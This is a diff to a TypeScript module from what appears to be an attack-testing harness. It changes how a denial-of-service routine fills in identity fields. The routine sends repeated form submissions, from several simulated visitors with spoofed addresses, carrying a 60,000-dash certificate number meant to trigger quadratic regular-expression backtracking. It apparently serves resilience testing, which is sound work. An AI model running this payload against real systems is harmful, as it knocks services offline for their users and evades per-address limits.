@@ -1,6 +1,7 @@
 import { setTimeout as wait } from "node:timers/promises";
 import type { Attack, Target } from "./attack";
 import { attackerAddress, formHeaders, headOf, repeat, statusFor, visitorOf } from "./wires";
+import { validIdentity } from "../support/valid-forms";
 
 /** Texts for which a regular expression takes the square of their length. */
 
@@ -27,7 +28,6 @@ async function prepareDashes(target: Target) {
     visitorOf(target, `ulan=en_US; ${cookie}`, attackerAddress(index + 1)),
   );
   const pages = await Promise.all(visitors.map((visitor) => visitor.open(DETAILS_PATH)));
-  const person = { familyName: "Siege", name: "Guest", certificateType: "2" };
   const certificateNumber = `A${"-".repeat(60_000)}A`;
   return async () => {
     await Promise.all(
@@ -35,7 +35,7 @@ async function prepareDashes(target: Target) {
         repeat({ atATime: 1, forMs: STRIKE_MS, times: 5 }, async () => {
           const page = pages[index];
           if (!page) return;
-          const fields = { ...person, certificateNumber, numberCode: page.field("numberCode") };
+          const fields = validIdentity({ certificateNumber, numberCode: page.field("numberCode") });
           await visitor.submit(DETAILS_PATH, fields, page).catch((error: unknown) => error);
         }),
       ),
